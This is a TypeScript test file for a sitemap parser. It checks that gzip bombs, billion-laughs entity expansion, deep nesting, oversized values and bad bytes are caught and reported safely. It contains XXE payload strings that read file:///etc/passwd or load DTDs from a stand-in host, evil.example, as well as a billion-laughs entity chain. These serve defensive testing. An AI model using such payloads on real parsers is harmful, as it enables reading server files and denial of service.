// Hostile input: every attack from issue 5 ("never trust input") must come back from
// parseSitemap with a clear error or warning, nothing expanded and nothing fetched. The tests
// assert that the parser returns and what it reports, never how long it took.
import { afterEach, describe, expect, it, vi } from 'vitest';
import { gzipBomb } from '../../bench/hostileInputs.ts';
import { type Issue, NS, type ParseResult } from './model.ts';
import { gunzipAll } from './parse/gzip.ts';
import { DEFAULT_MAX_DECOMPRESSED_BYTES, parseSitemap } from './parse.ts';
import { serializeFiles } from './serialize.ts';
import { validateDocument } from './validate.ts';

const enc = new TextEncoder();
const MiB = 1024 * 1024;
const rules = (issues: readonly Issue[]) => issues.map((i) => i.rule);
const urlset = (body: string, rootAttrs = '') =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="${NS.sitemap}"${rootAttrs}>${body}</urlset>`;
const validate = (r: ParseResult) => validateDocument(r.document, { now: Date.UTC(2025, 0, 1) });

afterEach(() => {
  vi.unstubAllGlobals();
});

describe('gzip bombs (GZ-006)', () => {
  it('the default cap is well above the 50 MiB protocol limit', () => {
    expect(DEFAULT_MAX_DECOMPRESSED_BYTES).toBeGreaterThan(2 * 52_428_800);
  });

  it('a ~4 MB .gz that inflates to 4 GiB stops at the cap with GZ-006 and loads nothing', () => {
    const bomb = gzipBomb(4096);
    expect(bomb.length).toBeLessThan(5 * MiB);
    const cap = 8_000_000;
    const r = parseSitemap(bomb, { fileName: 'bomb.xml.gz', maxDecompressedBytes: cap });
    expect(r.fatal?.message).toMatch(/more than 8,000,000 bytes, the limit for reading a gzip file/);
    expect(r.document.entries).toEqual([]);
    const gz6 = r.issues.find((i) => i.rule === 'GZ-006');
    expect(gz6?.severity).toBe('error');
    // The finding and the load error say the same, with the limit's number.
    expect(gz6?.message).toBe(r.fatal?.message);
    expect(rules(r.issues)).not.toContain('GZ-003');
  });

  it('gunzipAll keeps at most the cap of a bomb', () => {
    const out = gunzipAll(gzipBomb(256), 3_000_000);
    expect(out.truncated).toBe(true);
    expect(out.data.length).toBeLessThanOrEqual(3_000_000);
    expect(rules(out.issues)).toEqual(['GZ-006']);
  });

  it('a multi-member bomb (members of 64 MiB each) is capped too', () => {
    const member = gzipBomb(64);
    const many = new Uint8Array(member.length * 8);
    for (let i = 0; i < 8; i++) many.set(member, i * member.length);
    const r = parseSitemap(many, { fileName: 'many.xml.gz', maxDecompressedBytes: 5_000_000 });
    expect(rules(r.issues)).toContain('GZ-006');
    expect(r.document.entries).toEqual([]);
  });
});

describe('XML attacks: DOCTYPE and entities (ENC-009, IMP-021)', () => {
  const laughs = [
    '<!ENTITY lol "lol">',
    ...Array.from({ length: 8 }, (_, i) => {
      const prev = i === 0 ? 'lol' : `lol${i + 1}`;
      return `<!ENTITY lol${i + 2} "${`&${prev};`.repeat(10)}">`;
    }),
  ].join('');

  it('billion laughs: the DOCTYPE is removed and reported, the entity is never expanded', () => {
    const xml = `<?xml version="1.0"?><!DOCTYPE urlset [${laughs}]>${urlset('<url><loc>https://a.example/&lol9;</loc></url>').replace(/^<\?xml[^>]*>\n/, '')}`;
    const r = parseSitemap(xml);
    expect(r.fatal).toBeNull();
    expect(r.document.entries.map((e) => e.loc)).toEqual(['https://a.example/&lol9;']);
    const enc9 = r.issues.find((i) => i.rule === 'ENC-009');
    expect(enc9?.severity).toBe('error');
    expect(enc9?.message).toMatch(/never expanded/);
    expect(r.issues.find((i) => i.rule === 'ENC-006')?.message).toMatch(/&lol9;.*not expanded/);
  });

  const external = [
    ['a SYSTEM file entity', '<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '&xxe;'],
    ['an http entity', '<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "http://evil.example/x">]>', '&xxe;'],
    ['a parameter entity', '<!DOCTYPE urlset [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>', ''],
    ['an external DTD', '<!DOCTYPE urlset SYSTEM "http://evil.example/x.dtd">', ''],
    ['a PUBLIC DTD', '<!DOCTYPE urlset PUBLIC "-//X//Y" "https://evil.example/y.dtd">', ''],
  ] as const;

  it.each(external)('%s is reported and never fetched or read', (_name, doctype, ref) => {
    const fetchSpy = vi.fn();
    vi.stubGlobal('fetch', fetchSpy);
    vi.stubGlobal('XMLHttpRequest', fetchSpy);
    const xml = `<?xml version="1.0"?>${doctype}<urlset xmlns="${NS.sitemap}"><url><loc>https://a.example/${ref}</loc></url></urlset>`;
    const r = parseSitemap(xml);
    expect(r.fatal).toBeNull();
    expect(rules(r.issues)).toContain('ENC-009');
    expect(r.document.entries.map((e) => e.loc)).toEqual([`https://a.example/${ref}`]);
    expect(JSON.stringify(r)).not.toMatch(/root:x:0/);
    expect(fetchSpy).not.toHaveBeenCalled();
  });

  it('an unterminated DOCTYPE is a fatal error, not a hang', () => {
    const r = parseSitemap(`<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY a "${'x'.repeat(100_000)}`);
    expect(r.fatal?.message).toMatch(/Unterminated DOCTYPE/);
    expect(r.document.entries).toEqual([]);
  });
});

describe('XML attacks: size and depth', () => {
  const N = 100_000;

  it('100,000 nested unknown elements inside <url> are kept verbatim with XML-008', () => {
    const r = parseSitemap(
      urlset(`<url><loc>https://a.example/</loc>${'<x>'.repeat(N)}${'</x>'.repeat(N)}</url>`),
    );
    expect(r.fatal).toBeNull();
    expect(r.document.entries.map((e) => e.loc)).toEqual(['https://a.example/']);
    expect(r.issues.find((i) => i.rule === 'XML-008')?.severity).toBe('warning');
  });

  it('100,000 nested <url> elements become one entry without <loc> (XML-004), no stack overflow', () => {
    const r = parseSitemap(urlset(`${'<url>'.repeat(N)}${'</url>'.repeat(N)}`));
    expect(r.fatal).toBeNull();
    expect(r.document.entries).toHaveLength(1);
    expect(rules(r.issues)).toContain('XML-004');
  });

  it('100,000 unclosed elements after an entry: ENC-004 with the complete entry recovered', () => {
    const r = parseSitemap(
      `<?xml version="1.0"?><urlset xmlns="${NS.sitemap}"><url><loc>https://a.example/</loc></url>${'<a>'.repeat(N)}`,
    );
    expect(r.fatal?.message).toMatch(/end of input/);
    expect(r.fatal?.excerpt?.length ?? 0).toBeLessThanOrEqual(200);
    expect(r.document.entries.map((e) => e.loc)).toEqual(['https://a.example/']);
    expect(r.document.partial).toBe(true);
    expect(rules(r.issues)).toContain('ENC-004');
  });

  it('a single 100 MB line (one 100 MB <loc>) is read whole and reported (SIZE-002, LOC-002)', () => {
    const loc = `https://a.example/${'a'.repeat(100 * MiB)}`;
    const r = parseSitemap(enc.encode(urlset(`<url><loc>${loc}</loc></url>`)));
    expect(r.fatal).toBeNull();
    expect(r.document.entries).toHaveLength(1);
    expect(r.document.entries[0].loc.length).toBe(loc.length);
    const issues = validate(r);
    expect(issues.find((i) => i.rule === 'SIZE-002')?.severity).toBe('error');
    const loc2 = issues.find((i) => i.rule === 'LOC-002');
    expect(loc2?.message).toMatch(/“https:\/\/a\.example\/a+…a{20}”/);
    expect(loc2?.message.length).toBeLessThan(400);
  });

  it('an over-long URL is an error for the validator (LOC-002)', () => {
    const r = parseSitemap(urlset(`<url><loc>https://a.example/${'a'.repeat(MiB)}</loc></url>`));
    const loc2 = validate(r).find((i) => i.rule === 'LOC-002');
    expect(loc2?.severity).toBe('error');
    expect(loc2?.message.length).toBeLessThan(400);
  });

  it('a 10 MB attribute is read whole and reported by the validator (LOC-002 on the href)', () => {
    const href = `https://a.example/${'b'.repeat(10 * MiB)}`;
    const xhtml = ` xmlns:xhtml="${NS.xhtml}"`;
    const link = `<xhtml:link rel="alternate" hreflang="de" href="${href}"/>`;
    const r = parseSitemap(urlset(`<url><loc>https://a.example/</loc>${link}</url>`, xhtml));
    expect(r.fatal).toBeNull();
    expect(r.document.entries[0].alternates?.[0].href?.length).toBe(href.length);
    const small = parseSitemap(
      urlset(`<url><loc>https://a.example/</loc>${link.replace(href, href.slice(0, MiB))}</url>`, xhtml),
    );
    expect(validate(small).find((i) => i.rule === 'LOC-002')?.field).toBe('alternates.0.href');
  });

  it('a 10 MB attribute on the root element does not disturb the entries', () => {
    const r = parseSitemap(
      urlset('<url><loc>https://a.example/</loc></url>', ` foo="${'b'.repeat(10 * MiB)}"`),
    );
    expect(r.fatal).toBeNull();
    expect(r.document.entries.map((e) => e.loc)).toEqual(['https://a.example/']);
  });
});

describe('XML attacks: bytes', () => {
  it('invalid UTF-8 is replaced by U+FFFD and reported for the file and the entry (ENC-001)', () => {
    const head = enc.encode(urlset('<url><loc>https://a.example/').replace(/<\/urlset>$/, ''));
    const tail = enc.encode('</loc></url></urlset>');
    const bytes = new Uint8Array([...head, 0xff, 0xfe, 0xc3, ...tail]);
    const r = parseSitemap(bytes);
    expect(r.fatal).toBeNull();
    expect(r.document.entries[0].loc).toMatch(/^https:\/\/a\.example\/\uFFFD+$/);
    const enc1 = r.issues.filter((i) => i.rule === 'ENC-001');
    expect(enc1.map((i) => i.entry)).toEqual([undefined, 0]);
    expect(enc1.every((i) => i.severity === 'error')).toBe(true);
  });

  it('NUL bytes in values are kept as data and flagged ENC-008, and removed on export', () => {
    const r = parseSitemap(
      enc.encode(
        urlset('<url><loc>https://a.example/a\u0000b</loc><lastmod>2024-01-01\u0000</lastmod></url>'),
      ),
    );
    expect(r.fatal).toBeNull();
    expect(r.document.entries[0].loc).toBe('https://a.example/a\u0000b');
    const enc8 = validate(r).filter((i) => i.rule === 'ENC-008');
    expect(enc8.map((i) => i.field).sort()).toEqual(['lastmod', 'loc']);
    const out = serializeFiles(r.document, { format: 'xml' });
    expect(new TextDecoder().decode(out.files[0].bytes)).not.toContain('\u0000');
    expect(rules(out.issues)).toContain('ENC-008');
  });

  it('character references to NUL and other controls are flagged ENC-008', () => {
    const r = parseSitemap(urlset('<url><loc>https://a.example/a&#0;b&#x1;</loc></url>'));
    expect(
      validate(r)
        .filter((i) => i.rule === 'ENC-008')
        .map((i) => i.field),
    ).toEqual(['loc']);
  });

  it('NUL bytes between elements are ignored with XML-008', () => {
    const r = parseSitemap(enc.encode(urlset('<url><loc>https://a.example/</loc></url>\u0000\u0000')));
    expect(r.document.entries.map((e) => e.loc)).toEqual(['https://a.example/']);
    expect(r.issues.find((i) => i.rule === 'XML-008')?.message).toMatch(/Text directly under the root/);
  });

  it('a file of NUL bytes is not a sitemap: its one line is an invalid URL (TXT-001, ENC-008)', () => {
    const r = parseSitemap(new Uint8Array(1000));
    expect(r.document.entries).toHaveLength(1);
    expect(rules(validate(r))).toEqual(expect.arrayContaining(['TXT-001', 'ENC-008']));
  });
});
